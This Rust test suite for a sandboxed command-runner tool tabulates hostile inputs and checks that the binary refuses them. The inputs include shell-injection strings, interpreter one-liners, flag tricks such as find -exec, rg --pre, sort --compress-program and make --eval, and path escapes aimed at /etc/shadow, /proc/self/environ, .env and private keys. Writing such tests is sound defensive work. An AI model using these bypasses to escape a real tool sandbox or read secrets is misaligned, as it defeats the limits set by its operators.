//! Hostile inputs through the real `bastion shell` binary, the tables:
//!
//! * a. the Desktop Commander bypasses as argv (shells, wrappers, interpreters, quoted and
//!   path-qualified program names, shell metacharacters in arguments);
//! * b. per-program flag tricks (security-notes §4.4): exec, write and read-elsewhere flags in
//!   every spelling (abbreviated, bundled, attached, after operands), and the build tools' own;
//! * c. paths outside the roots, through `..`, absolute paths, symlinks and /proc, and deny globs;
//! * d. a corpus of command-injection payloads as an argument to `echo` (must come back literally)
//!   and `ls` (never executed), as `cwd` and as the program name.
//!
//! Every case runs in its own tree with a fresh server and afterwards checks that no marker file
//! appeared (in the tree, `/tmp`, `$HOME`, the working directory or `/`), that nothing outside the
//! root changed (content, mode, mtime, xattrs) and that no output contained the outside sentinel
//! or the output of a planted program. What project code run by `make` can do inside the kernel
//! sandbox (files, network, signals, namespaces, rlimits, environment) stays in
//! `tests/python/test_shell_hostile.py`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use bastion_testkit::{Kind, Server, ServerBuilder, error_code, missing_prerequisite, temp_dir, write};
use serde_json::{Value, json};
use tempfile::TempDir;

// ---------------------------------------------------------------------------------------------
// The hostile tree
// ---------------------------------------------------------------------------------------------

/// `make sh CMD='...'` runs one shell snippet in the sandbox; `make py ARGS='...'` runs probe.py.
const MAKEFILE: &str = ".PHONY: sh py\nsh:\n\t@$(CMD)\npy:\n\t@python3 probe.py $(ARGS)\n";

/// What a path looks like: type, mode, mtime, xattrs, content or link target.
#[derive(Debug, PartialEq)]
enum Entry {
    Link(PathBuf),
    File(u32, i64, i64, Vec<String>, Vec<u8>),
    Dir(u32, Vec<String>),
    Other(u32),
}

struct Box {
    _dir: TempDir,
    base: PathBuf,
    root: PathBuf,
    outside: PathBuf,
    cfg: PathBuf,
    sentinel: String,
    marker: String,
    outputs: Vec<String>,
    before_outside: BTreeMap<String, Entry>,
    before_root: BTreeMap<String, Entry>,
}

fn xattrs(p: &Path) -> Vec<String> {
    let mut buf = vec![0u8; 64 * 1024];
    match rustix::fs::llistxattr(p, &mut buf[..]) {
        Ok(n) => {
            let mut names: Vec<String> = buf[..n]
                .split(|b| *b == 0)
                .filter(|s| !s.is_empty())
                .map(|s| String::from_utf8_lossy(s).into_owned())
                .collect();
            names.sort();
            names
        }
        Err(_) => Vec::new(),
    }
}

/// Type, mode, times, xattrs and content of everything beneath `top` (except `skip`).
fn state(top: &Path, skip: &[&Path]) -> BTreeMap<String, Entry> {
    fn walk(dir: &Path, top: &Path, skip: &[&Path], out: &mut BTreeMap<String, Entry>) {
        let Ok(rd) = std::fs::read_dir(dir) else { return };
        for e in rd.flatten() {
            let p = e.path();
            if skip.contains(&p.as_path()) {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(top).unwrap().display().to_string();
            let mode = m.permissions().mode();
            let ft = m.file_type();
            if ft.is_symlink() {
                out.insert(rel, Entry::Link(std::fs::read_link(&p).unwrap()));
            } else if ft.is_file() {
                let data = std::fs::read(&p).unwrap();
                out.insert(rel, Entry::File(mode & 0o7777, m.mtime(), m.mtime_nsec(), xattrs(&p), data));
            } else if ft.is_dir() {
                out.insert(rel, Entry::Dir(mode & 0o7777, xattrs(&p)));
                walk(&p, top, skip, out);
            } else {
                out.insert(rel, Entry::Other(mode));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(top, top, skip, &mut out);
    out
}

fn token() -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default().as_nanos();
    format!("{nanos:x}{:x}{:x}", std::process::id(), COUNTER.fetch_add(1, Ordering::Relaxed))
}

fn build_box() -> Box {
    let dir = temp_dir();
    let base = dir.path().canonicalize().unwrap();
    let sentinel = format!("SENTINEL-{}", token());
    let marker = format!("MARKER{}", token());
    let root = base.join("proj");
    let outside = base.join("outside");
    // The test's own files (configs, listening sockets): not checked.
    let cfg = base.join("cfg");
    for d in [root.join("sub/deeper"), root.join("bin"), outside.clone(), base.join("proj-evil"), cfg.clone()] {
        std::fs::create_dir_all(d).unwrap();
    }
    let line = format!("{sentinel}\n");
    write(outside.join("sentinel.txt"), &line);
    write(outside.join("Makefile"), format!("all:\n\t@echo {sentinel}\n"));
    write(base.join("proj-evil/data.txt"), &line);
    write(base.join("loot.txt"), &line);

    write(root.join("in.txt"), "hello\nworld\n");
    write(root.join("a.txt"), "banana\napple\ncherry\n");
    write(root.join("data.json"), "{\"a\": 1}\n");
    write(root.join("sub/deeper/x.txt"), "deep\n");
    write(root.join(".env"), "TOKEN=inside-root-dotenv-secret\n");
    write(root.join("id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\ninside-root-key-secret\n");
    // Programs a hostile flag would run: if they ever run they print the marker.
    for name in ["pre.sh", "x", "touch"] {
        let script = root.join(name);
        write(&script, format!("#!/bin/sh\necho RAN-{marker}\ntouch {}/{marker}\ncat\n", outside.display()));
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    write(root.join("names.lst"), format!("{}/sentinel.txt\n", outside.display()));
    write(root.join("names0.lst"), format!("{}/sentinel.txt\0", outside.display()));
    write(root.join("prog.jq"), ".\n");
    write(root.join("sums.txt"), format!("0000  {}/sentinel.txt\n", outside.display()));
    symlink(&outside, root.join("link_out")).unwrap();
    symlink(outside.join("sentinel.txt"), root.join("link_sentinel")).unwrap();
    symlink("../outside/sentinel.txt", root.join("rel_link_sentinel")).unwrap();
    symlink("/proc/self/environ", root.join("link_environ")).unwrap();
    symlink(".env", root.join("link_env")).unwrap();
    symlink("/", root.join("link_slash")).unwrap();
    assert!(Command::new("mkfifo").arg(root.join("fifo")).status().unwrap().success());
    write(root.join("Makefile"), MAKEFILE);
    // probe.py is the Python suite's; these tables never run it, but the tree is the same.
    write(root.join("probe.py"), "print('PROBE-RAN')\n");
    let before_outside = state(&base, &[&root, &cfg]);
    let before_root = state(&root, &[]);
    Box { _dir: dir, base, root, outside, cfg, sentinel, marker, outputs: Vec::new(), before_outside, before_root }
}

impl Box {
    /// Replaces `{m}`, `{root}`, `{outside}`, `{base}`.
    fn sub(&self, s: &str) -> String {
        s.replace("{m}", &self.marker)
            .replace("{root}", &self.root.display().to_string())
            .replace("{outside}", &self.outside.display().to_string())
            .replace("{base}", &self.base.display().to_string())
    }

    fn sub_all(&self, args: &[&str]) -> Vec<String> {
        args.iter().map(|a| self.sub(a)).collect()
    }

    /// Every file named after the marker where a command could leave one.
    fn markers(&self) -> Vec<String> {
        fn walk(dir: &Path, marker: &str, out: &mut Vec<String>) {
            let Ok(rd) = std::fs::read_dir(dir) else { return };
            for e in rd.flatten() {
                let p = e.path();
                if e.file_name().to_string_lossy().contains(marker) {
                    out.push(p.display().to_string());
                }
                if e.file_type().is_ok_and(|t| t.is_dir()) {
                    walk(&p, marker, out);
                }
            }
        }
        let mut found = Vec::new();
        walk(&self.base, &self.marker, &mut found);
        let mut dirs = vec![PathBuf::from("/tmp"), PathBuf::from("/")];
        if let Some(home) = std::env::var_os("HOME") {
            dirs.push(PathBuf::from(home));
        }
        if let Ok(cwd) = std::env::current_dir() {
            dirs.push(cwd);
        }
        for d in dirs {
            if let Ok(rd) = std::fs::read_dir(&d) {
                for e in rd.flatten() {
                    if e.file_name().to_string_lossy().contains(&self.marker) {
                        found.push(e.path().display().to_string());
                    }
                }
            }
        }
        found
    }

    fn assert_contained(&self, root_unchanged: bool) {
        assert_eq!(self.markers(), Vec::<String>::new(), "a marker file appeared");
        let after = state(&self.base, &[&self.root, &self.cfg]);
        let appeared: Vec<_> = after.keys().filter(|k| !self.before_outside.contains_key(*k)).collect();
        let changed: Vec<_> = after
            .iter()
            .filter(|(k, v)| self.before_outside.get(*k).is_some_and(|b| b != *v))
            .map(|(k, _)| k)
            .collect();
        let vanished: Vec<_> = self.before_outside.keys().filter(|k| !after.contains_key(*k)).collect();
        assert!(
            appeared.is_empty() && changed.is_empty() && vanished.is_empty(),
            "{appeared:?} {changed:?} {vanished:?}"
        );
        for out in &self.outputs {
            assert!(!out.contains(&self.sentinel), "the outside sentinel leaked into a result: {}", cut(out));
            assert!(!out.contains(&format!("RAN-{}", self.marker)), "a planted program ran: {}", cut(out));
        }
        if root_unchanged {
            assert!(state(&self.root, &[]) == self.before_root, "the root changed");
        }
    }

    /// One call; records its output for the leak checks. Returns (code or None, structured).
    fn call(&mut self, s: &mut Server, tool: &str, args: Value) -> (Option<String>, Value) {
        let r = s.call(tool, args);
        self.outputs.push(r.text.clone());
        self.outputs.push(r.structured.to_string());
        if r.is_error && r.structured["code"] == "timeout" && r.text.starts_with('{') {
            // A timeout's text is the JSON of the whole result (code, message and the output so far).
            assert_eq!(serde_json::from_str::<Value>(&r.text).unwrap()["code"], "timeout");
            return (Some("timeout".into()), r.structured);
        }
        (error_code(&r), r.structured)
    }

    fn run(&mut self, s: &mut Server, program: &str, args: &[String], cwd: Option<&str>) -> (Option<String>, Value) {
        let mut a = json!({"program": program, "args": args});
        if let Some(c) = cwd {
            a["cwd"] = json!(c);
        }
        self.call(s, "run_command", a)
    }
}

fn cut(s: &str) -> String {
    s.chars().take(400).collect()
}

fn shell(root: &Path, profile: &str) -> Server {
    ServerBuilder::new(Kind::Shell).root(root).arg("--profile").arg(profile).timeout(Duration::from_secs(15)).start()
}

/// Whether `program` is on `PATH`.
fn installed(program: &str) -> bool {
    std::env::var_os("PATH").is_some_and(|path| std::env::split_paths(&path).any(|d| d.join(program).is_file()))
}

/// Runs `case` once per entry (each with a fresh box), then names every entry that failed.
fn each<T>(cases: &[T], id: impl Fn(&T) -> String, case: impl Fn(&T)) {
    let mut failed = Vec::new();
    for c in cases {
        if catch_unwind(AssertUnwindSafe(|| case(c))).is_err() {
            failed.push(id(c));
        }
    }
    assert!(failed.is_empty(), "{} of {} cases failed: {failed:?}", failed.len(), cases.len());
}

const REFUSED: [&str; 3] = ["command_not_allowed", "argument_not_allowed", "invalid_argument"];

// ---------------------------------------------------------------------------------------------
// Tables (the Python suite's, case for case)
// ---------------------------------------------------------------------------------------------

const PROGRAM_BYPASSES: [(&str, &[&str]); 54] = [
    ("sh", &["-c", "touch {outside}/{m}"]),
    ("bash", &["-c", "touch {outside}/{m}"]),
    ("dash", &["-c", "touch {m}"]),
    ("zsh", &["-c", "touch {m}"]),
    ("busybox", &["sh", "-c", "touch {m}"]),
    ("env", &["touch", "{outside}/{m}"]),
    ("env", &["-i", "sh", "-c", "touch {m}"]),
    ("xargs", &["-a", "names.lst", "touch"]),
    ("eval", &["touch {m}"]),
    ("exec", &["touch", "{m}"]),
    ("command", &["touch", "{m}"]),
    ("builtin", &["touch", "{m}"]),
    ("\\touch", &["{m}"]),
    ("'touch'", &["{m}"]),
    ("\"touch\"", &["{m}"]),
    ("touch", &["{m}"]),
    ("ls\ntouch {m}", &[]),
    ("ls\ntouch", &["{m}"]),
    ("ls;touch", &["{m}"]),
    ("ls && touch {m}", &[]),
    ("ls touch", &["{m}"]),
    ("ls ", &[]),
    (" ls", &[]),
    ("LS", &[]),
    ("ls\x00", &[]),
    ("{", &["touch", "{m};", "}"]),
    ("$(echo touch)", &["{m}"]),
    ("`echo touch`", &["{m}"]),
    ("${IFS}touch", &["{m}"]),
    ("python3", &["-c", "open('{outside}/{m}','w')"]),
    ("python", &["-c", "open('{outside}/{m}','w')"]),
    ("perl", &["-e", "open(F,'>{outside}/{m}')"]),
    ("ruby", &["-e", "File.write('{m}','')"]),
    ("node", &["-e", "require('fs').writeFileSync('{outside}/{m}','')"]),
    ("awk", &["BEGIN{system(\"touch {outside}/{m}\")}"]),
    ("gawk", &["BEGIN{system(\"touch {m}\")}"]),
    ("sed", &["-n", "1e touch {outside}/{m}", "a.txt"]),
    ("git", &["-c", "core.pager=touch {outside}/{m}", "log"]),
    ("sudo", &["touch", "{outside}/{m}"]),
    ("su", &["-c", "touch {m}"]),
    ("timeout", &["5", "touch", "{outside}/{m}"]),
    ("nice", &["touch", "{outside}/{m}"]),
    ("nohup", &["touch", "{m}"]),
    ("setsid", &["touch", "{m}"]),
    ("stdbuf", &["-o0", "touch", "{m}"]),
    ("strace", &["-o", "{m}", "true"]),
    ("unshare", &["-r", "touch", "{m}"]),
    ("/bin/ls", &[]),
    ("/usr/bin/touch", &["{outside}/{m}"]),
    ("./touch", &["{m}"]),
    ("../bin/ls", &[]),
    ("bin/ls", &[]),
    ("{root}/touch", &["{m}"]),
    ("", &[]),
];

/// Shell syntax in an argument: `echo` prints it back verbatim, `ls` looks for a file of that
/// name (it never runs anything).
const ARG_BYPASSES: [&str; 16] = [
    "; touch {m}",
    "&& touch {m}",
    "|| touch {m}",
    "| touch {m}",
    "& touch {m}",
    "$(touch {m})",
    "`touch {m}`",
    "\ntouch {m}",
    "> {m}",
    ">> {m}",
    "2>{m}",
    "<(touch {m})",
    "${IFS}touch${IFS}{m}",
    "';touch {m};'",
    "\";touch {m};\"",
    "touch {outside}/{m}",
];

const FLAG_TRICKS: [(&str, &[&str]); 118] = [
    ("find", &[".", "-exec", "./touch", "{}", ";"]),
    ("find", &[".", "-exec", "./touch", "{}", "+"]),
    ("find", &[".", "-name", "*.txt", "-execdir", "./touch", ";"]),
    ("find", &[".", "-ok", "./touch", ";"]),
    ("find", &[".", "-okdir", "./touch", ";"]),
    ("find", &[".", "-delete"]),
    ("find", &[".", "-name", "a.txt", "-delete"]),
    ("find", &[".", "-fprint", "{m}"]),
    ("find", &[".", "-fprint0", "{m}"]),
    ("find", &[".", "-fprintf", "{m}", "%p"]),
    ("find", &[".", "-fls", "{m}"]),
    ("find", &[".", "(", "-name", "x", "-o", "-exec", "./touch", ";", ")"]),
    ("find", &[".", "!", "-delete"]),
    ("find", &["-L", "."]),
    ("find", &["-H", "."]),
    ("find", &[".", "-follow"]),
    ("find", &[".", "-files0-from", "names0.lst"]),
    ("find", &["-D", "exec", "."]),
    ("find", &[".", "-newerXY", "x"]),
    ("rg", &["--pre", "./pre.sh", "hello"]),
    ("rg", &["--pre=./pre.sh", "hello"]),
    ("rg", &["--pr", "./pre.sh", "hello"]),
    ("rg", &["--pre-glob", "*", "hello"]),
    ("rg", &["--pre-g=*", "hello"]),
    ("rg", &["hello", "in.txt", "--pre", "./pre.sh"]),
    ("rg", &["hello", "--", "in.txt", "--pre=./pre.sh"]),
    ("rg", &["-z", "hello"]),
    ("rg", &["-iz", "hello"]),
    ("rg", &["--search-zip", "hello"]),
    ("rg", &["--search-z", "hello"]),
    ("rg", &["--hostname-bin=./pre.sh", "hello"]),
    ("rg", &["--hostname-bin", "./pre.sh", "hello"]),
    ("rg", &["-L", "hello"]),
    ("rg", &["--follow", "hello"]),
    ("rg", &["--config-path=names.lst", "hello"]),
    ("sort", &["--compress-program=./x", "a.txt"]),
    ("sort", &["--compress-prog=./x", "a.txt"]),
    ("sort", &["--compress", "./x", "a.txt"]),
    ("sort", &["a.txt", "--compress-program=./x"]),
    ("sort", &["--out={m}", "a.txt"]),
    ("sort", &["--output={m}", "a.txt"]),
    ("sort", &["--output", "{m}", "a.txt"]),
    ("sort", &["-o", "{m}", "a.txt"]),
    ("sort", &["-o{m}", "a.txt"]),
    ("sort", &["-ro", "{m}", "a.txt"]),
    ("sort", &["-ro{m}", "a.txt"]),
    ("sort", &["-nro", "{m}", "a.txt"]),
    ("sort", &["a.txt", "-o", "{m}"]),
    ("sort", &["-T", "{outside}", "a.txt"]),
    ("sort", &["--temporary-directory={outside}", "a.txt"]),
    ("sort", &["--files0-from=names0.lst"]),
    ("sort", &["--random-source={outside}/sentinel.txt", "-R", "a.txt"]),
    ("wc", &["--files0-from=names0.lst"]),
    ("wc", &["--files0-from", "{outside}/sentinel.txt"]),
    ("wc", &["--files0=names0.lst"]),
    ("wc", &["--files=names0.lst"]),
    ("du", &["--files0-from=names0.lst"]),
    ("du", &["--files0=names0.lst"]),
    ("du", &["-X", "{outside}/sentinel.txt", "."]),
    ("du", &["--exclude-from={outside}/sentinel.txt", "."]),
    ("du", &["-L", "."]),
    ("du", &["--dereference", "."]),
    ("tree", &["-o", "{m}"]),
    ("tree", &["-ao", "{m}"]),
    ("tree", &["-o{m}"]),
    ("tree", &["-R"]),
    ("tree", &["-H", ".", "-R"]),
    ("tree", &["-l"]),
    ("tree", &["--fromfile", "names.lst"]),
    ("file", &["-C"]),
    ("file", &["-C", "-m", "{m}"]),
    ("file", &["-m", "{outside}/sentinel.txt", "in.txt"]),
    ("file", &["--magic-file", "prog.jq", "in.txt"]),
    ("file", &["-f", "names.lst"]),
    ("file", &["--files-from=names.lst"]),
    ("file", &["-z", "in.txt"]),
    ("file", &["-Z", "in.txt"]),
    ("file", &["-bz", "in.txt"]),
    ("jq", &["--rawfile", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["--slurpfile", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["--raw", "s", "{outside}/sentinel.txt", "-n", "$s"]),
    ("jq", &["-L", "{outside}", "-n", "1"]),
    ("jq", &["--library-path={outside}", "-n", "1"]),
    ("jq", &["-f", "prog.jq", "data.json"]),
    ("jq", &["--from-file", "prog.jq", "data.json"]),
    ("jq", &["-nf", "prog.jq"]),
    ("jq", &["-n", "$ARGS", "--args", "{outside}/sentinel.txt"]),
    ("jq", &["-n", "$ARGS", "--jsonargs", "1"]),
    ("jq", &[".", "--", "--rawfile"]),
    ("jq", &["--", "-L{outside}", "."]),
    ("tail", &["-f", "in.txt"]),
    ("tail", &["-F", "in.txt"]),
    ("tail", &["--follow", "in.txt"]),
    ("tail", &["--fol", "in.txt"]),
    ("tail", &["--follow=name", "in.txt"]),
    ("tail", &["--retry", "in.txt"]),
    ("tail", &["--pid=1", "in.txt"]),
    ("tail", &["-s", "1", "in.txt"]),
    ("date", &["-s", "2020-01-01"]),
    ("date", &["--set=2020-01-01"]),
    ("date", &["--se", "2020-01-01"]),
    ("date", &["-f", "{outside}/sentinel.txt"]),
    ("date", &["--file=names.lst"]),
    ("date", &["-us", "2020-01-01"]),
    ("uniq", &["a.txt", "{m}"]),
    ("uniq", &["-c", "a.txt", "{m}"]),
    ("grep", &["-D", "read", "x", "in.txt"]),
    ("grep", &["--devices=read", "x", "in.txt"]),
    ("grep", &["-d", "read", "x", "."]),
    ("grep", &["--directories=recurse", "x", "."]),
    ("sha256sum", &["-c", "sums.txt"]),
    ("md5sum", &["--check", "sums.txt"]),
    ("sha256sum", &["--ch", "sums.txt"]),
    ("ls", &["--dired"]),
    ("cat", &["--help-me"]),
    ("cat", &["-z", "in.txt"]),
    ("head", &["--bytes"]),
    ("sort", &["--compress-program"]),
];

const BUILD_TOOL_FLAG_TRICKS: [(&str, &[&str], &str); 34] = [
    ("make", &["--eval=x:;touch {outside}/{m}"], "argument_not_allowed"),
    ("make", &["--eval", "x:"], "argument_not_allowed"),
    ("make", &["--ev=x:"], "argument_not_allowed"),
    ("make", &["-E", "x:"], "argument_not_allowed"),
    ("make", &["-sE", "x:"], "argument_not_allowed"),
    ("make", &["-f", "{outside}/Makefile"], "path_outside_root"),
    ("make", &["-f../outside/Makefile"], "path_outside_root"),
    ("make", &["--file={outside}/Makefile"], "path_outside_root"),
    ("make", &["--makefile", "../outside/Makefile"], "path_outside_root"),
    ("make", &["-C", "{outside}"], "path_outside_root"),
    ("make", &["-C{outside}"], "path_outside_root"),
    ("make", &["--directory=../outside"], "path_outside_root"),
    ("make", &["-C", "link_out"], "path_outside_root"),
    ("make", &["-I", "/etc"], "path_outside_root"),
    ("make", &["-f", "/proc/self/fd/0"], "path_outside_root"),
    ("python", &["-c", "open('{outside}/{m}','w')"], "argument_not_allowed"),
    ("python", &["-m", "http.server"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "-p", "evil"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "--basetemp={outside}"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "-c", "{outside}/sentinel.txt"], "argument_not_allowed"),
    ("python", &["-m", "pytest", "--rootdir={outside}"], "path_outside_root"),
    ("cargo", &["--config", "build.rustc-wrapper='./x'", "build"], "argument_not_allowed"),
    ("cargo", &["build", "--config=x"], "argument_not_allowed"),
    ("cargo", &["-Zunstable-options", "build"], "argument_not_allowed"),
    ("cargo", &["install", "ripgrep"], "argument_not_allowed"),
    ("cargo", &["build", "--manifest-path", "{outside}/Cargo.toml"], "path_outside_root"),
    ("cargo", &["build", "--target-dir={outside}"], "path_outside_root"),
    ("cargo", &["-C", "{outside}", "build"], "argument_not_allowed"),
    ("npm", &["exec", "touch"], "argument_not_allowed"),
    ("npm", &["install", "-g", "x"], "argument_not_allowed"),
    ("npm", &["test", "--script-shell=./x"], "argument_not_allowed"),
    ("npm", &["test", "--node-options=--require=./x"], "argument_not_allowed"),
    ("npm", &["test", "--prefix={outside}"], "path_outside_root"),
    ("npx", &["-g", "x"], "argument_not_allowed"),
];

const PATH_CASES: [(&str, &[&str], Option<&str>, &str); 70] = [
    ("cat", &["/etc/passwd"], None, "path_outside_root"),
    ("cat", &["/etc/shadow"], None, "path_outside_root"),
    ("cat", &["../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["{outside}/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["{base}/proj-evil/data.txt"], None, "path_outside_root"),
    ("cat", &["../proj-evil/data.txt"], None, "path_outside_root"),
    ("cat", &["{root}/../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["sub/../../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["../../outside/sentinel.txt"], Some("sub"), "path_outside_root"),
    ("cat", &["link_sentinel"], None, "path_outside_root"),
    ("cat", &["rel_link_sentinel"], None, "path_outside_root"),
    ("cat", &["link_out/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["link_out/../proj/in.txt"], None, "path_outside_root"),
    ("cat", &["link_slash/etc/passwd"], None, "path_outside_root"),
    ("cat", &["link_environ"], None, "path_outside_root"),
    ("cat", &["/proc/self/environ"], None, "path_outside_root"),
    ("cat", &["/proc/1/environ"], None, "path_outside_root"),
    ("cat", &["/proc/self/root{outside}/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["/proc/self/cwd/../outside/sentinel.txt"], None, "path_outside_root"),
    ("cat", &["/dev/zero"], None, "path_outside_root"),
    ("head", &["-c", "10", "/dev/urandom"], None, "path_outside_root"),
    ("ls", &["{outside}"], None, "path_outside_root"),
    ("ls", &["link_out"], None, "path_outside_root"),
    ("ls", &["-L", "link_out"], None, "path_outside_root"),
    ("ls", &["/"], None, "path_outside_root"),
    ("ls", &[".."], None, "path_outside_root"),
    ("find", &["..", "-name", "sentinel.txt"], None, "path_outside_root"),
    ("find", &["/", "-maxdepth", "0"], None, "path_outside_root"),
    ("find", &[".", "-newer", "{outside}/sentinel.txt"], None, "path_outside_root"),
    ("find", &[".", "-samefile", "link_sentinel"], None, "path_outside_root"),
    ("grep", &["-r", "SENTINEL", "{outside}"], None, "path_outside_root"),
    ("grep", &["-f", "{outside}/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("grep", &["--file=../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("grep", &["--exclude-from=../outside/sentinel.txt", "x", "in.txt"], None, "path_outside_root"),
    ("rg", &["-f", "../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("rg", &["--ignore-file=../outside/sentinel.txt", "x"], None, "path_outside_root"),
    ("rg", &["x", "/etc"], None, "path_outside_root"),
    ("diff", &["in.txt", "../outside/sentinel.txt"], None, "path_outside_root"),
    ("diff", &["--from-file=../outside/sentinel.txt", "in.txt"], None, "path_outside_root"),
    ("diff", &["-r", ".", "{outside}"], None, "path_outside_root"),
    ("cmp", &["in.txt", "link_sentinel"], None, "path_outside_root"),
    ("realpath", &["--relative-to=/etc", "in.txt"], None, "path_outside_root"),
    ("date", &["-r", "{outside}/sentinel.txt"], None, "path_outside_root"),
    ("stat", &["{outside}/sentinel.txt"], None, "path_outside_root"),
    ("du", &["-s", ".."], None, "path_outside_root"),
    ("tree", &["{outside}"], None, "path_outside_root"),
    ("file", &["link_sentinel"], None, "path_outside_root"),
    ("sha256sum", &["/etc/passwd"], None, "path_outside_root"),
    ("wc", &["-c", "/proc/self/environ"], None, "path_outside_root"),
    ("ls", &[], Some("/etc"), "path_outside_root"),
    ("ls", &[], Some("/"), "path_outside_root"),
    ("ls", &[], Some(".."), "path_outside_root"),
    ("ls", &[], Some("../outside"), "path_outside_root"),
    ("ls", &[], Some("{outside}"), "path_outside_root"),
    ("ls", &[], Some("{base}/proj-evil"), "path_outside_root"),
    ("ls", &[], Some("link_out"), "path_outside_root"),
    ("ls", &[], Some("link_slash"), "path_outside_root"),
    ("ls", &[], Some("/proc/self"), "path_outside_root"),
    ("ls", &[], Some("/proc/self/cwd"), "path_outside_root"),
    ("ls", &[], Some("sub/../.."), "path_outside_root"),
    ("cat", &[".env"], None, "denied_by_glob"),
    ("cat", &["id_rsa"], None, "denied_by_glob"),
    ("cat", &["./sub/../.env"], None, "denied_by_glob"),
    ("cat", &["{root}/.env"], None, "denied_by_glob"),
    ("cat", &["link_env"], None, "denied_by_glob"),
    ("head", &["-n1", "in.txt", ".env"], None, "denied_by_glob"),
    ("grep", &["TOKEN", ".env"], None, "denied_by_glob"),
    ("sha256sum", &["id_rsa"], None, "denied_by_glob"),
    ("diff", &["in.txt", ".env"], None, "denied_by_glob"),
    ("sort", &["id_rsa"], None, "denied_by_glob"),
];

// ---------------------------------------------------------------------------------------------
// a. Desktop Commander bypasses as argv
// ---------------------------------------------------------------------------------------------

#[test]
fn program_bypasses_are_refused() {
    let cases: Vec<(&str, &str, &[&str])> = ["read-only", "build-test"]
        .iter()
        .flat_map(|profile| PROGRAM_BYPASSES.iter().map(move |(p, a)| (*profile, *p, *a)))
        .collect();
    each(
        &cases,
        |(profile, p, a)| format!("{profile} {p:?} {a:?}"),
        |&(profile, program, args)| {
            let mut b = build_box();
            let mut s = shell(&b.root, profile);
            let (program, args) = (b.sub(program), b.sub_all(args));
            let (code, out) = b.run(&mut s, &program, &args, None);
            if profile == "build-test" && program == "node" {
                // node is a build-test program (it runs project code by design): it runs, contained.
                let stderr = out["stderr"].as_str().unwrap_or_default();
                assert!(
                    code.is_none() && out["exit_code"] != 0 && (stderr.contains("EACCES") || stderr.contains("EROFS")),
                    "{out}"
                );
            } else {
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
                let (code, _) = b.call(&mut s, "start_process", json!({"program": program, "args": args}));
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

#[test]
fn shell_syntax_in_arguments_is_literal() {
    each(
        &ARG_BYPASSES,
        |p| format!("{p:?}"),
        |payload| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, "echo", std::slice::from_ref(&payload), None);
            assert!(
                code.is_none() && out["stdout"] == format!("{payload}\n") && out["args"] == json!([payload]),
                "{out}"
            );
            let (code, out) = b.run(&mut s, "echo", &["touch".into(), payload.clone(), "x".into()], None);
            assert!(code.is_none() && out["stdout"] == format!("touch {payload} x\n"), "{out}");
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code {
                None => {
                    assert!(out["exit_code"] == 2 && out["stderr"].as_str().unwrap().contains("No such file"), "{out}");
                    assert_eq!(out["args"], json!(["--", payload]));
                }
                Some(c) => assert_eq!(c, "path_outside_root", "{payload:?}"),
            }
            let (code, out) = b.run(&mut s, "cat", &["in.txt".into(), payload.clone()], None);
            if code.is_none() {
                assert!(
                    out["stdout"] == "hello\nworld\n" && out["stderr"].as_str().unwrap().contains("No such file"),
                    "{out}"
                );
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// b. Per-program flag tricks (security-notes §4.4)
// ---------------------------------------------------------------------------------------------

#[test]
fn flag_tricks_are_refused() {
    each(
        &FLAG_TRICKS,
        |(p, a)| format!("{p} {}", a.join(" ")),
        |&(program, args)| {
            if !installed(program) {
                // An allowed program the machine lacks is refused before its flags are looked at.
                missing_prerequisite(&format!("`{program}` is not installed"));
                return;
            }
            let mut b = build_box();
            let argv = b.sub_all(args);
            if args.last() == Some(&"--pre=./pre.sh") && args.contains(&"--") {
                // After `--`, "--pre=./pre.sh" is a file name (a path the program looks for), never a flag.
                let mut s = shell(&b.root, "read-only");
                let (code, out) = b.run(&mut s, program, &argv, None);
                assert!(
                    code.is_none()
                        && out["exit_code"] != 0
                        && out["stderr"].as_str().unwrap().contains("--pre=./pre.sh"),
                    "{out}"
                );
            } else {
                for profile in ["read-only", "build-test"] {
                    // The build-test profile includes the same rules.
                    let mut s = shell(&b.root, profile);
                    let (code, out) = b.run(&mut s, program, &argv, None);
                    assert_eq!(code.as_deref(), Some("argument_not_allowed"), "[{profile}] {program} {args:?}: {out}");
                }
            }
            b.assert_contained(true);
            b.assert_contained(false);
        },
    );
}

#[test]
fn nul_bytes_in_arguments_are_refused() {
    let mut b = build_box();
    let mut s = shell(&b.root, "read-only");
    let (code, _) = b.run(&mut s, "cat", &["in.txt\u{0}../outside/sentinel.txt".into()], None);
    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    let (code, _) = b.run(&mut s, "echo", &["a\u{0}b".into()], None);
